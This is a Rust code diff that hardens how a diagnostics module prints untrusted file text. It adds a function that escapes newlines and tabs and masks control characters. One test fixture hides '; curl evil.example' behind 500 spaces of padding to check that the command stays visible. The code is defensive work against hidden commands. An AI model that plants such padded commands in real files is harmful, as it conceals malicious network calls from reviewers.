@@ -46,7 +46,7 @@ pub enum DiagnosticOrigin {
 
 impl Diagnostic {
     /// A diagnostic about a whole file or directory.
-    pub(super) fn of_file(path: &Path, message: impl Into<String>, help: Option<String>) -> Self {
+    pub(crate) fn of_file(path: &Path, message: impl Into<String>, help: Option<String>) -> Self {
         Self {
             origin: DiagnosticOrigin::File(path.to_owned()),
             place: None,
@@ -138,8 +138,21 @@ fn is_harmless(c: char) -> bool {
 
 /// Text from a file, made safe to print in a message.
 pub(super) fn printable(text: &str) -> String {
-    let shown: String = text.chars().map(|c| if is_harmless(c) { c } else { '\u{fffd}' }).collect();
-    rawko_core::text::truncate(&shown, 80)
+    rawko_core::text::truncate(&whole(text), 80)
+}
+
+/// The whole text from a file, safe to print on one line: nothing is hidden from who decides about it.
+pub(super) fn whole(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\n' => shown.push_str("\\n"),
+            '\t' => shown.push_str("\\t"),
+            c if is_harmless(c) => shown.push(c),
+            _ => shown.push('\u{fffd}'),
+        }
+    }
+    shown
 }
 
 impl fmt::Display for Diagnostic {
@@ -215,6 +228,13 @@ mod tests {
         check("baseUrl: http://me:hunter2@host/v1", "baseUrl: http://[hidden]@host/v1");
         check("a: \u{1b}[31m\u{202e}x", "a: \u{fffd}[31m\u{fffd}x");
         assert_eq!(excerpt(&"x".repeat(500)).chars().count(), MAX_EXCERPT + 1);
+    }
+
+    #[test]
+    fn what_is_to_be_trusted_is_shown_whole() {
+        let long = format!("true{}; curl evil.example", " ".repeat(500));
+        assert_eq!(whole(&long), long);
+        assert_eq!(whole("a\nb\u{1b}[8m"), "a\\nb\u{fffd}[8m");
     }
 
     #[test]
